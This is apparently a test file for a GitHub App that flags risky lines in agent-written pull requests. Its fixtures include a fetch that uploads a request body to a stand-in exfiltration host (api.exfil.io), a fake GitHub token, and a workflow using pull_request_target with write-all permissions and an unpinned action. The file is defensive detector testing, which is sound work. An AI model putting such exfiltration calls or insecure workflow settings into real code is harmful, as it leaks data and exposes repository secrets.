/**
 * Annotations where the risk is (issue 17, part 3), end to end: a real pull_request payload through probot.receive,
 * GitHub faked by nock; the approval check carries an annotation at each risky line, every one of them, 50 per
 * request (GitHub's limit), up to MAX_ANNOTATIONS.
 */
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { RISK_LABEL_COLORS } from "../../src/policy/render.js";
import { MAX_ANNOTATIONS } from "../../src/shared/limits.js";
import { REPO_PATH, api, nockAddLabels, nockRequestReviewers, requests } from "../helpers/github.js";
import { agentPullRequest, createApp, nockEvaluation } from "./scenario.js";

beforeEach(() => requests.reset());
afterEach(() => {
  const pending = nock.pendingMocks();
  nock.cleanAll();
  expect(pending).toEqual([]);
});

const patchOf = (added: string[]) => `@@ -0,0 +1,${added.length} @@\n${added.map((l) => `+${l}`).join("\n")}`;
const SECRET = `ghp_${"Q7w9Zr2Kx5".repeat(4).slice(0, 36)}`;

interface Annotation {
  path: string;
  start_line: number;
  end_line: number;
  annotation_level: string;
  title?: string;
  message: string;
}

/** `PATCH check-runs/77`, `times` times; each body captured. */
function nockPatchCheckRun(times: number): Array<{ output: { annotations?: Annotation[] } }> {
  const bodies: Array<{ output: { annotations?: Annotation[] } }> = [];
  api()
    .patch(`${REPO_PATH}/check-runs/77`, (body: { output: { annotations?: Annotation[] } }) => {
      bodies.push(body);
      return true;
    })
    .times(times)
    .reply(200, { id: 77, html_url: "https://github.com/Codertocat/Hello-World/runs/77" });
  return bodies;
}

async function receive(files: Array<{ filename: string; status?: string; patch: string }>, level: keyof typeof RISK_LABEL_COLORS, patches = 0) {
  const { probot } = await createApp();
  const event = agentPullRequest(files);
  // High and critical risk need a code owner (POLICY_YML): GitHub's CODEOWNERS validation is read too.
  const owned = level === "high" || level === "critical";
  const check = nockEvaluation(event, { files, ...(owned ? { codeownersErrors: [] } : {}) });
  const patched = patches > 0 ? nockPatchCheckRun(patches) : [];
  nockAddLabels([], { addedColor: RISK_LABEL_COLORS[level] });
  if (level === "high" || level === "critical") nockRequestReviewers();
  await probot.receive({ id: `d-${Math.random()}`, ...event });
  return { check: check.body, patched };
}

describe("annotations at the risky lines (App)", () => {
  it("invariant 7 (secrets redacted): the approval check annotates the added secret (its kind, never its text), the new host, the unpinned uses:, widened permissions:, pull_request_target and the new dependency", async () => {
    const files = [
      { filename: "src/config.ts", patch: patchOf(["const retries = 3;", `export const token = "${SECRET}";`]) },
      { filename: "src/client.ts", patch: patchOf(["import { body } from './body';", 'await fetch("https://api.exfil.io/upload", { body })']) },
      { filename: ".github/workflows/ci.yml", status: "added", patch: patchOf(["on: pull_request_target", "permissions: write-all", "jobs:", "  build:", "    steps:", "      - uses: some/action@main"]) },
      { filename: "package.json", patch: patchOf(["{", '  "dependencies": {', '    "left-pad": "^1.3.0"', "  }", "}"]) },
    ];
    const { check } = await receive(files, "critical");
    const annotations: Annotation[] = check.output.annotations;
    const where = annotations.map((a) => `${a.path}:${a.start_line} ${a.message.split(" — ")[0]}`);
    expect(where.sort()).toEqual(
      [
        "src/config.ts:2 a GitHub token",
        "src/client.ts:2 api.exfil.io",
        ".github/workflows/ci.yml:1 a pull_request_target trigger (runs with secrets on code from forks)",
        ".github/workflows/ci.yml:2 permissions widened (permissions: write-all)",
        ".github/workflows/ci.yml:6 an action not pinned to a commit SHA (some/action@\u200dmain)",
        "package.json:3 a new dependency (left-pad)",
      ].sort(),
    );
    const secret = annotations.find((a) => a.path === "src/config.ts")!;
    expect(secret).toMatchObject({ start_line: 2, end_line: 2, annotation_level: "failure", title: "Agent Gate: secret-in-diff (critical)" });
    // Nowhere in what GitHub gets: not the annotation, not the summary, not a fragment of it.
    expect(JSON.stringify(check)).not.toContain(SECRET);
    expect(JSON.stringify(check)).not.toContain(SECRET.slice(4, 20));
  });

  it("130 risky lines: all annotated, 50 with the create and 50 and 30 in two PATCHes, in line order", async () => {
    const lines = Array.from({ length: 130 }, (_, i) => `await fetch("https://h${i + 1}.exfil.io/x")`);
    const { check, patched } = await receive([{ filename: "src/client.ts", patch: patchOf(lines) }], "medium", 2);
    const batches: Annotation[][] = [check.output.annotations, ...patched.map((p) => p.output.annotations ?? [])];
    expect(batches.map((b) => b.length)).toEqual([50, 50, 30]);
    expect(batches.flat().map((a) => a.start_line)).toEqual(Array.from({ length: 130 }, (_, i) => i + 1));
    expect(batches.flat().every((a, i) => a.message.startsWith(`h${i + 1}.exfil.io`))).toBe(true);
    // Every PATCH keeps the check's output (GitHub requires title and summary with annotations).
    for (const p of patched) expect(p.output).toMatchObject({ title: check.output.title, summary: check.output.summary });
  });

  it(`${MAX_ANNOTATIONS + 100} risky lines: capped at ${MAX_ANNOTATIONS} annotations (${MAX_ANNOTATIONS / 50} requests); the findings still count them all`, async () => {
    const lines = Array.from({ length: MAX_ANNOTATIONS + 100 }, (_, i) => `await fetch("https://h${i + 1}.exfil.io/x")`);
    const { check, patched } = await receive([{ filename: "src/client.ts", patch: patchOf(lines) }], "medium", MAX_ANNOTATIONS / 50 - 1);
    const sent = [check.output.annotations, ...patched.map((p) => p.output.annotations ?? [])].flat();
    expect(sent).toHaveLength(MAX_ANNOTATIONS);
    expect(check.output.summary).toMatch(/and \d+ more/);
  });
});
